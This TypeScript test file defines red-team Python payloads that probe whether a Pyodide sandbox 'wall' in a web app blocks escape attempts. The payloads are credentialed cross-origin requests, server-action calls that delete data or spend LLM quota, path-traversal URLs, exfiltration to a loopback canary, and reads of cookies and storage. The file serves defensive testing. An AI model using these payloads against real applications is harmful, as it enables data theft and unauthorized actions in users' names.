/**
 * The wall's red-team programs: Python that already holds JavaScript (the escaped test kernel gives it the worker's
 * real global scope as `js`) and goes for what is of value. Each prints one JSON line
 * `{"id", "outcome": "blocked" | "reached", "detail"}`; "reached" means the browser let the attempt out (a response,
 * an opened connection, a handle), which the spec then judges against what may be reached at all.
 *
 * The targets reach Python as a JSON literal in a prelude (`T = json.loads(...)`), never spliced into code.
 */
export interface WallTargets {
  /** The app's origin, e.g. http://127.0.0.1:3217. */
  app: string;
  /** A loopback server that counts every request it gets. */
  canary: string;
  /** ws:// form of the canary. */
  canaryWs: string;
  /** An analysis of the victim's. */
  victimId: string;
  /** The server action id of deleteAnalysis (public in the app's JavaScript). */
  deleteActionId: string;
  /** The server action id of ask (lib/ask/actions.ts; public in the app's JavaScript too). */
  askActionId: string;
}

export interface WallAttack {
  id: string;
  goal: string;
  /** Whether the browser may let this attempt out at all (only Pyodide's own files, without credentials). */
  mayReach: boolean;
  code: string;
}

const PRELUDE = `import js, json
from pyodide.ffi import to_js
def opts(**kw):
    return to_js(kw, dict_converter=js.Object.fromEntries)
def report(id, ok, detail):
    print(json.dumps({"id": id, "outcome": "reached" if ok else "blocked", "detail": str(detail)[:300]}))
async def try_fetch(id, url, **kw):
    try:
        r = await js.fetch(url, opts(credentials="include", **kw))
        report(id, True, f"HTTP {r.status}: " + (await r.text())[:120])
    except Exception as e:
        report(id, False, e)
def try_call(id, thunk):
    try:
        report(id, True, thunk())
    except Exception as e:
        report(id, False, e)
`;

function fetchAttack(id: string, goal: string, url: string, extra = ''): WallAttack {
  return { id, goal, mayReach: false, code: `await try_fetch(${JSON.stringify(id)}, ${url}${extra ? `, ${extra}` : ''})` };
}

export const WALL_ATTACKS: WallAttack[] = [
  fetchAttack('list-my-analyses', "read the viewer's analyses with their cookie", 'T["app"] + "/analyses"'),
  fetchAttack(
    'save-analysis-api',
    'create an analysis in the viewer’s name',
    'T["app"] + "/api/analyses"',
    'method="POST", headers=opts(**{"content-type": "application/json"}), body="{}"',
  ),
  fetchAttack(
    'delete-by-server-action',
    "delete the viewer's analysis through the deleteAnalysis server action",
    'T["app"] + "/analyses"',
    'method="POST", headers=opts(**{"next-action": T["deleteActionId"], "content-type": "text/plain;charset=UTF-8"}), body=json.dumps([{"id": T["victimId"]}])',
  ),
  fetchAttack(
    'ask-llm-on-viewer-quota',
    'spend the viewer’s LLM quota through the ask server action',
    'T["app"] + "/"',
    'method="POST", headers=opts(**{"next-action": T["askActionId"], "content-type": "text/plain;charset=UTF-8"}), body="[{}]"',
  ),
  fetchAttack(
    'storage-object-put',
    'write into storage through the object route',
    'T["app"] + "/api/storage/object?key=datasets/x/y.csv"',
    'method="PUT", body="a,b"',
  ),
  fetchAttack('path-traversal-from-allowed-folder', 'escape the allowed /pyodide/ folder with ..', 'T["app"] + "/pyodide/../api/analyses"'),
  fetchAttack('encoded-traversal', 'escape the allowed folder with %2e%2e', 'T["app"] + "/pyodide/%2e%2e/analyses"'),
  fetchAttack('share-page-of-victim', "read the victim's share page", 'T["app"] + "/a/" + T["victimId"]'),
  fetchAttack('canary-fetch', 'exfiltrate to a loopback server', 'T["canary"] + "/fetch?secret=1"'),
  fetchAttack('canary-no-cors', 'exfiltrate with an opaque no-cors request', 'T["canary"] + "/no-cors"', 'mode="no-cors"'),
  {
    id: 'canary-xhr',
    goal: 'exfiltrate with XMLHttpRequest',
    mayReach: false,
    code: `def xhr():
    x = js.XMLHttpRequest.new()
    x.open("GET", T["canary"] + "/xhr", False)
    x.send()
    return x.status
try_call("canary-xhr", xhr)`,
  },
  {
    id: 'canary-websocket',
    goal: 'open a WebSocket to a loopback server',
    mayReach: false,
    code: `import asyncio
def ws():
    return js.WebSocket.new(T["canaryWs"] + "/ws")
try:
    sock = ws()
    await asyncio.sleep(0.5)
    report("canary-websocket", sock.readyState == 1, f"readyState {sock.readyState}")
except Exception as e:
    report("canary-websocket", False, e)`,
  },
  {
    id: 'canary-eventsource',
    goal: 'open an EventSource to a loopback server',
    mayReach: false,
    code: `import asyncio
try:
    source = js.EventSource.new(T["canary"] + "/sse")
    await asyncio.sleep(0.5)
    report("canary-eventsource", source.readyState == 1, f"readyState {source.readyState}")
except Exception as e:
    report("canary-eventsource", False, e)`,
  },
  {
    id: 'canary-worker',
    goal: 'start a worker from a loopback server',
    mayReach: false,
    code: `try_call("canary-worker", lambda: js.Worker.new(T["canary"] + "/worker.js"))`,
  },
  {
    id: 'import-scripts',
    goal: 'load a script with importScripts',
    mayReach: false,
    code: `try_call("import-scripts", lambda: js.importScripts(T["canary"] + "/script.js"))`,
  },
  {
    id: 'import-scripts-prototype',
    goal: 'find importScripts on the prototype chain',
    mayReach: false,
    code: `try_call("import-scripts-prototype", lambda: js.Object.getPrototypeOf(js.self).importScripts(T["canary"] + "/proto.js"))`,
  },
  {
    id: 'function-constructor',
    goal: 'compile JavaScript with the Function constructor',
    mayReach: false,
    code: `try_call("function-constructor", lambda: js.Function.new("return 1")())`,
  },
  { id: 'eval', goal: 'compile JavaScript with eval', mayReach: false, code: `try_call("eval", lambda: js.eval("1 + 1"))` },
  {
    id: 'indexeddb',
    goal: "open the app's IndexedDB",
    mayReach: false,
    code: `import asyncio
try:
    req = js.indexedDB.open("ask-your-data")
    await asyncio.sleep(0.3)
    report("indexeddb", req.readyState == "done" and req.error is None, f"readyState {req.readyState}")
except Exception as e:
    report("indexeddb", False, e)`,
  },
  {
    id: 'cache-storage',
    goal: "open the app's Cache Storage",
    mayReach: false,
    code: `try:\n    c = await js.caches.open("app")\n    report("cache-storage", True, c)\nexcept Exception as e:\n    report("cache-storage", False, e)`,
  },
  { id: 'local-storage', goal: 'read localStorage', mayReach: false, code: `try_call("local-storage", lambda: js.localStorage.getItem("x"))` },
  { id: 'document-cookie', goal: 'read the cookie', mayReach: false, code: `try_call("document-cookie", lambda: js.document.cookie)` },
  { id: 'parent-dom', goal: "reach the parent page's DOM", mayReach: false, code: `try_call("parent-dom", lambda: js.parent.document.body.innerHTML[:50])` },
  {
    id: 'top-location',
    goal: 'navigate the top page',
    mayReach: false,
    code: `try_call("top-location", lambda: setattr(js.top.location, "href", T["canary"] + "/navigated"))`,
  },
  {
    id: 'pyodide-core-with-credentials',
    goal: "fetch the kernel's own files with credentials (allowed; must carry no cookie)",
    mayReach: true,
    code: `await try_fetch("pyodide-core-with-credentials", T["app"] + "/pyodide/pyodide-lock.json")`,
  },
];

/** One program that runs every attack in turn (one kernel run). */
export function wallProgram(targets: WallTargets, attacks: WallAttack[] = WALL_ATTACKS): string {
  const prelude = `${PRELUDE}T = json.loads(${JSON.stringify(JSON.stringify(targets))})\n`;
  return prelude + attacks.map((attack) => attack.code).join('\n');
}

export interface WallOutcome {
  id: string;
  outcome: 'blocked' | 'reached';
  detail: string;
}

/** The JSON lines the program printed (other output ignored). */
export function parseWallOutcomes(stdout: string): WallOutcome[] {
  const outcomes: WallOutcome[] = [];
  for (const line of stdout.split('\n')) {
    if (!line.startsWith('{"id"')) continue;
    const parsed: unknown = JSON.parse(line);
    if (parsed && typeof parsed === 'object' && 'id' in parsed && 'outcome' in parsed && 'detail' in parsed) {
      const { id, outcome, detail } = parsed;
      if (typeof id === 'string' && (outcome === 'blocked' || outcome === 'reached') && typeof detail === 'string') outcomes.push({ id, outcome, detail });
    }
  }
  return outcomes;
}
